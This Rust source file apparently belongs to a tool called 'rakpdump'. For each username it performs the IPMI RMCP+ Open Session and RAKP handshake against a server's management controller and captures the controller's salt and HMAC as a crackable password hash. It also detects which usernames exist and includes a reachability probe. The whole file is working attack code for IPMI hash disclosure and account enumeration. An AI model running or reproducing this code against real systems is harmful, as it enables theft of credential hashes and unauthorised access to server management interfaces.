//! One handshake attempt against one controller.
//!
//! Every attempt owns its own ephemeral UDP socket and its own freshly
//! drawn session ID and salt; nothing is shared across attempts, so the
//! two-message correlation never crosses a task boundary. The socket is
//! dropped on every exit path.

use rand::RngCore;
use tokio::net::UdpSocket;
use tokio::time::timeout;
use tracing::{debug, warn};

use rakpdump_common::network::target::Target;
use rakpdump_protocols::rakp::{self, CONSOLE_SALT_LEN, RakpMessage2};
use rakpdump_protocols::{WireError, rmcp};

use crate::hash::HashRecord;

const MAX_DATAGRAM: usize = 1024;

/// Why an attempt produced no hash. None of these abort a sweep.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AttemptFailure {
    /// No reply within the timeout, or a socket error. Definitive for this
    /// attempt; no retransmission is performed.
    Unreachable,
    /// The controller sent a stub rejection: the username does not exist.
    InvalidUser,
    /// A reply arrived but its declared length is not a shape we know.
    Malformed,
    /// A reply arrived but could not be correlated or was cut short.
    ParseError,
}

/// Runs the full two-message handshake for one username.
pub async fn attempt(target: &Target, username: &str) -> Result<HashRecord, AttemptFailure> {
    let socket = open_socket(target).await?;
    let console_session_id = random_session_id();
    let mut buf = [0u8; MAX_DATAGRAM];

    let request = rmcp::open_session_request(console_session_id);
    let n = exchange(&socket, target, &request, &mut buf)
        .await
        .ok_or(AttemptFailure::Unreachable)?;

    let open = match rmcp::parse_open_session_response(&buf[..n], console_session_id) {
        Ok(open) => open,
        Err(err) => {
            debug!(addr = %target.addr, %err, response = %hex::encode(&buf[..n]),
                "open session reply did not parse");
            return Err(AttemptFailure::ParseError);
        }
    };
    if !open.echo_matched {
        // Some controllers echo a stale ID on internal retries; the request
        // ID located by value is still usable, so only flag it.
        warn!(addr = %target.addr,
            sent = %hex::encode(console_session_id),
            "controller echoed a different session ID, continuing");
    }

    let mut console_salt = [0u8; CONSOLE_SALT_LEN];
    rand::rng().fill_bytes(&mut console_salt);

    let request = rakp::rakp_message_1(open.request_id, console_salt, username);
    let n = exchange(&socket, target, &request, &mut buf)
        .await
        .ok_or(AttemptFailure::Unreachable)?;

    match rakp::parse_rakp_message_2(&buf[..n], console_session_id) {
        Ok(RakpMessage2::Authenticated { bmc_salt, hmac }) => Ok(HashRecord {
            addr: target.addr,
            username: username.to_string(),
            console_session_id,
            request_id: open.request_id,
            console_salt,
            bmc_salt,
            hmac,
        }),
        Ok(RakpMessage2::NoSuchUser) => Err(AttemptFailure::InvalidUser),
        Err(err @ WireError::UnrecognizedLength(_)) => {
            debug!(addr = %target.addr, username, %err,
                response = %hex::encode(&buf[..n]), "unexpected RAKP reply shape");
            Err(AttemptFailure::Malformed)
        }
        Err(err) => {
            debug!(addr = %target.addr, username, %err,
                response = %hex::encode(&buf[..n]), "RAKP reply did not parse");
            Err(AttemptFailure::ParseError)
        }
    }
}

/// Reachability check: a single Open Session round trip with a throwaway
/// session ID. Any reply at all counts as reachable.
pub async fn probe(target: &Target) -> bool {
    let Ok(socket) = open_socket(target).await else {
        return false;
    };
    let request = rmcp::open_session_request(random_session_id());
    let mut buf = [0u8; MAX_DATAGRAM];
    exchange(&socket, target, &request, &mut buf).await.is_some()
}

async fn open_socket(target: &Target) -> Result<UdpSocket, AttemptFailure> {
    UdpSocket::bind("0.0.0.0:0").await.map_err(|err| {
        warn!(addr = %target.addr, %err, "failed to open UDP socket");
        AttemptFailure::Unreachable
    })
}

fn random_session_id() -> [u8; 4] {
    let mut id = [0u8; 4];
    rand::rng().fill_bytes(&mut id);
    id
}

/// Sends one datagram and waits up to the target's timeout for one reply.
/// Socket errors and silence are the same outcome here.
async fn exchange(
    socket: &UdpSocket,
    target: &Target,
    packet: &[u8],
    buf: &mut [u8],
) -> Option<usize> {
    if let Err(err) = socket.send_to(packet, target.socket_addr()).await {
        debug!(addr = %target.addr, %err, "send failed");
        return None;
    }
    match timeout(target.timeout, socket.recv_from(buf)).await {
        Ok(Ok((n, _))) => Some(n),
        Ok(Err(err)) => {
            debug!(addr = %target.addr, %err, "receive failed");
            None
        }
        Err(_) => None,
    }
}
